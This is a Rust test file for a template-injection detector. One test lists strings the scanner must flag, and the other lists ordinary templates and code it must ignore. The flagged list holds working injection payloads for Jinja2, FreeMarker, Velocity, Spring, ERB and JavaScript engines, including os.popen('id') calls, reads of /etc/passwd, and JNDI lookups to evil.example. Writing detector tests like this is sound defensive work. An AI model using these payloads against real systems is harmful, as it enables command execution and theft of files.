//! What a template engine would run, and what only looks like a template.

use crate::model::Category;

fn rules(text: &str) -> Vec<String> {
    let mut out = Vec::new();
    super::super::scan_sinks(text, &[Category::TemplateInjection], &mut out);
    out.into_iter().filter(|found| found.score >= 0.5).map(|found| found.rule.as_str().to_owned()).collect()
}

#[test]
fn expressions_that_would_run_are_seen() {
    let fire = [
        "{{7*7}}",
        "{{ 7 * '7' }}",
        "${7*7}",
        "#{7*7}",
        "<%= 7*7 %>",
        "@(7*7)",
        "*{7*7}",
        "{{''.__class__.__mro__[1].__subclasses__()}}",
        "{{ ''['__class__'] }}",
        "{{ ''|attr('__class__') }}",
        "{{ ''|attr(\"\\x5f\\x5fclass\\x5f\\x5f\") }}",
        "{{ ''['__cla'+'ss__'] }}",
        "{{ ''['__cla' 'ss__'] }}",
        "{{ config.items() }}",
        "{{request.application.__globals__}}",
        "{{ lipsum.__globals__['os'].popen('id').read() }}",
        "{{cycler.__init__.__globals__.os.popen('id')}}",
        "{{ self._TemplateReference__context }}",
        "{{_self.env.registerUndefinedFilterCallback('exec')}}",
        "{{['id']|filter('system')}}",
        "{{['id']|map('passthru')|join}}",
        "{% import os %}",
        "{% include '/etc/passwd' %}",
        "{% for c in [].__class__.__base__.__subclasses__() %}",
        "<#assign ex=\"freemarker.template.utility.Execute\"?new()>${ex(\"id\")}",
        "${\"freemarker.template.utility.Execute\"?new()(\"id\")}",
        "[#assign ex='freemarker.template.utility.Execute'?new()]",
        "#set($e=\"e\")#set($x=$e.getClass().forName(\"java.lang.Runtime\"))",
        "${T(java.lang.Runtime).getRuntime().exec('id')}",
        "*{T(org.x.Utils).run('id')}",
        "${''.getClass().forName('java.lang.Runtime')}",
        "<%= system('id') %>",
        "<%= `id` %>",
        "<%= File.open('/etc/passwd').read %>",
        "#{root.process.mainModule.require('child_process')}",
        "{{constructor.constructor('alert(1)')()}}",
        "{{$on.constructor('alert(1)')()}}",
        "{{#with \"s\" as |string|}}{{lookup string.sub \"constructor\"}}",
        "${jndi:ldap://evil.example/a}",
        "${${lower:j}ndi:ldap://evil.example/a}",
        "${${::-j}${::-n}di:rmi://x}",
        "@System.Diagnostics.Process.Start(\"cmd\")",
        "${{<%[%'\"}}%\\",
        "{{ 'id'|system }}",
        "%7B%7B7*7%7D%7D",
    ];
    let silent: Vec<_> = fire.iter().filter(|text| rules(text).is_empty()).collect();
    assert!(silent.is_empty(), "{silent:#?}");
}

#[test]
fn templates_code_and_prose_stay_silent() {
    let calm = [
        "Hello {{name}}, your order {{ order.id }} is ready",
        "{{#each items}}<li>{{this.title}}</li>{{/each}}",
        "{% for item in items %}{{ item.price|round(2) }}{% endfor %}",
        "{% extends 'base.html' %}{% block body %}{% endblock %}",
        "{{ user.first_name|default('friend') }}",
        "{{ price * 2 }} and {{ a + b }}",
        "echo ${HOME} ${PATH:-/bin} $((7*7))",
        "const s = `${user.name} has ${items.length * 2} items`;",
        "${{ secrets.GITHUB_TOKEN }}",
        "if: ${{ github.event_name == 'push' }}",
        "puts \"#{user.name}: #{total * 2}\"",
        "<%= link_to 'Home', root_path %> <%# a comment %>",
        "<% if user.admin? %>yes<% end %>",
        "@(Model.Name) and @{ var x = Model.Price; }",
        "def __init__(self): self.__class__.__name__",
        "{\"a\": {\"b\": {}}}",
        "{{a}{b}} \\frac{{7}}{{8}}",
        "map[string]struct{}{}",
        "println!(\"{{}} {}\", 7 * 7)",
        "the constructor {{ and its constructor",
        "#[derive(Debug)] struct A { b: [u8; 7*7] }",
        "${project.build.directory}/classes",
        "${spring.datasource.url}",
        "version {{ .Values.image.tag | quote }}",
        "{{- if .Values.enabled }}{{ include \"chart.labels\" . | nindent 4 }}{{- end }}",
        "a #{7} b, channel #{general}",
        "if (a < b) { c *{d}; }",
        "mail me @(work)",
        "class.constructor(x) is JavaScript",
        "<#if user??>${user.name}</#if>",
    ];
    let loud: Vec<_> = calm.iter().map(|text| (text, rules(text))).filter(|(_, rules)| !rules.is_empty()).collect();
    assert!(loud.is_empty(), "{loud:#?}");
}
